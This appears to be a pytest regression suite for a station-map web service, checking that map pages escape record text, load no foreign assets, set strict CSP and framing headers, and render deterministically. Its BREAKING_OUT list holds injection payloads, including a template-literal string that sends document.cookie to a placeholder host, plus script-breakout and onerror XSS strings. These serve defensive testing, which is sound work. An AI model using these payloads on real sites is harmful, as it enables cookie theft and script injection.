"""Faults of maps, popups and frames that comparable systems had; the pages as they are served."""

from __future__ import annotations

import re
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.regressions.office import NOW, Office, station, strict_json

# A popup's text stood in a template literal of a script: markup, quotes and line ends all broke out of it.
BREAKING_OUT = (
    "暖心驿站${fetch('//x.invalid/?'+document.cookie)}",
    "A`B",
    "\\`${1}",
    'O\'Neill "驿站"',
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "{{7*7}}{% raw %}{#",
    "行\u2028分\u2029段\n下",
    "\\",
    "<!--<script>",
)
PAGES = ("/", "/map", "/list?lon=120.17&lat=30.25", "/stations/0000000001", "/staff/login", "/docs")


class Elements(HTMLParser):
    """The tags of a page, and what stands in its scripts by their id."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: dict[str, str] = {}
        self._script: str | None = None
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._script = (dict(attrs).get("id") or "") if tag == "script" else None

    def handle_endtag(self, tag: str) -> None:
        self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self.scripts[self._script] = self.scripts.get(self._script, "") + data


def hostile_office(office: Office) -> Office:
    office.add(
        station(n, 120.17 + n * 0.01, name=name, address=name, note=name, hours_text=name, host=name)
        for n, name in enumerate(BREAKING_OUT, 1)
    )
    return office


def test_no_record_stands_in_the_page_of_the_map(office: Office) -> None:
    """Text in a template literal ran in every page that embedded the map (folium#1640, planwise#164)."""
    with office.server() as client:
        empty = client.get("/map").text
    hostile_office(office)
    with office.server() as client:
        page = client.get("/map").text
    view = r"(setView\(|center[^\[]{0,4})\[[-\d., ]+\]|\"?zoom\"?: ?\d+|-?\d+\.\d+"
    assert re.sub(view, "", page) == re.sub(view, "", empty)
    assert not any(name in page for name in BREAKING_OUT if len(name) > 3)


def test_a_map_file_holds_its_records_as_data_alone(office: Office, tmp_path: Path) -> None:
    """A quote emptied the whole map, `${` ran (python-visualization/folium#853, #19, #1640)."""
    file = tmp_path / "map.html"
    assert office.run("map", "-o", file).code == 0
    empty = Elements(file.read_text(encoding="utf-8"))
    assert hostile_office(office).run("map", "-o", file).code == 0
    page = Elements(file.read_text(encoding="utf-8"))
    assert [tag for tag, _ in page.tags] == [tag for tag, _ in empty.tags]
    shown = strict_json(page.scripts["station_data"])
    assert [feature["properties"]["name"] for feature in shown] == list(BREAKING_OUT)
    code = [
        text for key, text in page.scripts.items() if key not in ("station_data", "page_config", "land_data")
    ]
    assert not any(name in text for text in code for name in BREAKING_OUT if len(name) > 5)


def test_a_station_without_position_costs_no_other_its_marker(office: Office, tmp_path: Path) -> None:
    """One NaN took away every later marker (python-visualization/folium#461, #301)."""
    office.add([station(1), station(2, None), station(3, 120.18)])
    file = tmp_path / "map.html"
    assert office.run("map", "-o", file).code == 0
    shown = strict_json(Elements(file.read_text(encoding="utf-8")).scripts["station_data"])
    assert [feature["geometry"] is not None for feature in shown] == [True, False, True]
    with office.server() as client:
        assert sum(cluster[2] for cluster in client.get("/v1/tiles/0/0/0.json").json()["clusters"]) == 2


def test_the_page_of_the_map_does_not_grow_with_the_register(office: Office) -> None:
    """Pages of 135 MB that never opened (python-visualization/folium#1399, #942)."""
    sizes = []
    for count in (0, 300):
        office.add(station(n, 120 + n * 0.001) for n in range(count))
        with office.server() as client:
            sizes.append(len(client.get("/map").content))
    assert abs(sizes[1] - sizes[0]) < 100
    assert max(sizes) < 100_000


def test_no_page_needs_another_host_and_every_file_it_needs_is_there(office: Office) -> None:
    """`L is not defined` where a foreign host was blocked (python-visualization/folium#1985, #351)."""
    office.add([station(1)])
    with office.server() as client:
        for path in PAGES:
            answer = client.get(path)
            assert answer.status_code == 200
            for tag, attributes in Elements(answer.text).tags:
                loaded = tag == "link" and attributes.get("rel") not in ("alternate", "canonical")
                source = attributes.get("src") or (attributes.get("href") if loaded else None)
                if source is None or source.startswith("data:"):
                    continue
                assert source.startswith(("/static/", "/icons/", "/manifest")), (path, source)
                assert client.get(source).status_code == 200, (path, source)
            policy = answer.headers["content-security-policy"]
            assert policy.startswith("default-src 'none'")
            assert not re.search(r"https?:|\*(?!;|$)|unsafe-eval", policy.split("frame-ancestors")[0]), path


def test_a_page_names_itself_to_tile_servers(office: Office) -> None:
    """Tiles were refused to pages that hide where they are (python-visualization/folium#2236, #2215)."""
    with office.server() as client:
        assert client.get("/map").headers["referrer-policy"] == "strict-origin-when-cross-origin"


@pytest.mark.parametrize("partners", [("*",), ("https://union.example", "'self'"), ()])
def test_only_the_map_may_be_framed(office: Office, partners: tuple[str, ...]) -> None:
    """Embedding was refused everywhere, or the header dropped for staff too (umap-project/umap#469)."""
    office.add([station(1)])
    data = ("/v1/stations", "/v1/stations/none", "/healthz", "/nowhere", "/staff")
    with office.server(frame_ancestors=partners) as client:
        allowed = " ".join(partners) or "'none'"
        headers = client.get("/map").headers
        assert f"frame-ancestors {allowed}" in headers["content-security-policy"]
        assert "x-frame-options" not in headers
        for path in (*PAGES, *data):
            if path != "/map":
                policy = client.get(path).headers["content-security-policy"]
                assert "frame-ancestors 'none'" in policy, path


def test_the_map_leads_to_a_plain_list_of_the_same_stations(office: Office) -> None:
    """Markers without names, no list beside them (Leaflet/Leaflet#7428, #2199)."""
    hostile_office(office)
    with office.server() as client:
        links = [
            a.get("href") or "" for tag, a in Elements(client.get("/map?lang=en").text).tags if tag == "a"
        ]
        assert "/list?lang=en" in links
        listed = Elements(client.get("/list?lang=en&lon=120.17&lat=30.25").text).tags
        stations = [a["href"] for tag, a in listed if tag == "a" and "/stations/" in (a.get("href") or "")]
    assert len(stations) == len(BREAKING_OUT)


def test_the_same_data_are_the_same_bytes(
    office: Office, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Random ids changed tag and diff each time (useblocks/sphinx-needs#1903)."""
    office.add(station(n, 120 + n * 0.01, hours_rule="08:00-20:00") for n in range(9))
    with office.server() as one, office.server() as other:
        for path in PAGES:
            if path != "/staff/login":
                assert one.get(path).content == one.get(path).content == other.get(path).content
    written = []
    for hours in (0, 0, 3, 30):
        monkeypatch.setattr("api.app.utc_now", lambda hours=hours: NOW + timedelta(hours=hours))
        assert office.run("map", "-o", tmp_path / "map.html").code == 0
        written.append((tmp_path / "map.html").read_bytes())
    assert written[0] == written[1]
    # A file cannot know what time it is read at, so nothing in it may depend on when it was made.
    assert written[1] == written[2] == written[3]
